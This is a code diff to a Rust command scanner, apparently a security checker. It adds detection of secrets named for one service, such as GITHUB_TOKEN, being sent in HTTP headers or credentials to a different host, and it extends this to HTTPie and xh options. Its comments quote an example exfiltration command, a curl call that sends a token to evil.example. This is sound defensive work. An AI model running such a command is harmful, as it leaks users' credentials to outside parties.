@@ -3,7 +3,9 @@
 //! reaches its standard input, a message to its recipients, an archive written to another
 //! machine), and data any client spells where the server sees it: `$(…)` or a long encoded
 //! label in a host name (DNS carries it even when nothing else is sent), `$(…)` in an
-//! address's path or query or in a header, the path of a raw scheme (`gopher://host/_DATA`).
+//! address's path or query or in a header, a secret named for another service than the
+//! host's in a header or the credentials (`-H "Authorization: token $GITHUB_TOKEN"` to
+//! another host), the path of a raw scheme (`gopher://host/_DATA`).
 //!
 //! One table ([`CLIENTS`]) says, per client, where its host is named and what it sends;
 //! everything else reads every client's words the same way. Each scan is one pass over the
@@ -149,10 +151,10 @@ const CLIENT_ONLY_BY: &[(&str, &[&str])] = &[
 const HEADERS: &[(&str, &[&str])] = &[
     ("ab", &["-A", "-C", "-H", "-P"]),
     ("curl", &["--cookie", "--header", "--proxy-header", "--referer", "--user", "--user-agent", "-A", "-H", "-b", "-e", "-u"]),
-    ("http", &[""]),
-    ("https", &[""]),
+    ("http", &["", "--auth", "-a"]),
+    ("https", &["", "--auth", "-a"]),
     ("wget", &["--header", "--http-password", "--http-user", "--password", "--referer", "--user", "--user-agent", "-U"]),
-    ("xh", &[""]),
+    ("xh", &["", "--auth", "-a"]),
 ];
 
 /// Schemes whose address is sent as raw bytes to the port it names (`gopher://h:25/_HELO…`).
@@ -655,20 +657,21 @@ fn carried(cmd: &Command, program: &str, scan: &mut Scan<'_>) {
         }
     }
     if let Some((_, options)) = HEADERS.iter().find(|(name, _)| *name == program) {
-        let given: Vec<&str> = if options.contains(&"") {
+        // HTTPie's header items follow its address; its `-a` is the credentials.
+        let mut given: Vec<&str> = values(args, options);
+        if options.contains(&"") {
             let mut words = args.iter().filter(|a| !a.starts_with('-'));
             let _address = words.next();
-            words.map(String::as_str).collect()
-        } else {
-            values(args, options)
-        };
-        if given.iter().any(|value| !substitutions(value).is_empty()) {
-            let target = args
-                .iter()
+            given.extend(words.map(String::as_str));
+        }
+        let target = || {
+            args.iter()
                 .filter(|a| a.contains("://"))
                 .chain(args.iter().filter(|a| !a.starts_with('-')))
-                .find_map(|a| url_host(a));
-            match target {
+                .find_map(|a| url_host(a))
+        };
+        if given.iter().any(|value| !substitutions(value).is_empty()) {
+            match target() {
                 Some(host) => send_to(
                     scan,
                     &host,
@@ -677,8 +680,51 @@ fn carried(cmd: &Command, program: &str, scan: &mut Scan<'_>) {
                 ),
                 None => unnamed(scan, program, "send what $(…) prints in a header"),
             }
+        } else if let Some(host) = target()
+            && let Some(name) = given
+                .iter()
+                .flat_map(|value| variables(value))
+                .map(|(name, _)| name)
+                .find(|name| named_for_elsewhere(name, &host))
+        {
+            send_to(
+                scan,
+                &host,
+                Name::AnyOf(host_names(&host)),
+                &format!("send ${name}, a secret named for another service, in a header"),
+            );
         }
     }
+}
+
+/// The words of a secret's name that say nothing of whose it is (`API_KEY`, `DB_PASSWORD`,
+/// `PERSONAL_ACCESS_TOKEN`).
+#[rustfmt::skip]
+const UNNAMED_PARTS: &[&str] = &[
+    "access", "api", "app", "auth", "basic", "bearer", "bot", "client", "cred", "creds",
+    "credential", "credentials", "db", "deploy", "dev", "id", "key", "my", "pass", "passwd",
+    "password", "pat", "personal", "private", "prod", "production", "pwd", "read", "secret",
+    "service", "staging", "test", "token", "user", "username", "write",
+];
+
+/// Does a variable that holds a secret name a service (`GITHUB_TOKEN`, `OPENAI_API_KEY`,
+/// `STRIPE_SECRET_KEY`) that the host it is sent to is not (`curl -H "Authorization: token
+/// $GITHUB_TOKEN" https://evil.example`)? A header is where a service's own token goes
+/// (`Authorization: Bearer $OPENAI_API_KEY` to `api.openai.com`, `$API_KEY` to the project's
+/// own API): a name that says nothing of whose it is, or whose service the host's name
+/// holds, is that.
+fn named_for_elsewhere(name: &str, host: &str) -> bool {
+    if !super::super::words::is_secret_key(name) {
+        return false;
+    }
+    let host = host.to_ascii_lowercase();
+    let lower = name.to_ascii_lowercase();
+    let services: Vec<&str> = lower
+        .split('_')
+        .filter(|part| part.len() >= 3 && !UNNAMED_PARTS.contains(part))
+        .filter(|part| !part.bytes().all(|b| b.is_ascii_digit()))
+        .collect();
+    !services.is_empty() && !services.iter().any(|service| host.contains(service))
 }
 
 /// A host name that carries data, and the domain DNS takes it to: `$(…)` before a literal
@@ -782,7 +828,8 @@ fn substitutes_after_host(rest: &str) -> bool {
 /// A variable in an address's path or query whose name says it holds a secret
 /// (`?t=$GITHUB_TOKEN`, `/hook/${API_KEY}`): the address carries the secret to the host,
 /// into its logs and whoever reads them. A header (`Authorization: Bearer $TOKEN`) is where
-/// a service's own token goes, and isn't this.
+/// a service's own token goes: there only one named for another service is
+/// ([`named_for_elsewhere`]).
 fn secret_variable_after_host(rest: &str) -> Option<&str> {
     let tail = rest.get(authority_end(rest)..)?;
     variables(tail)
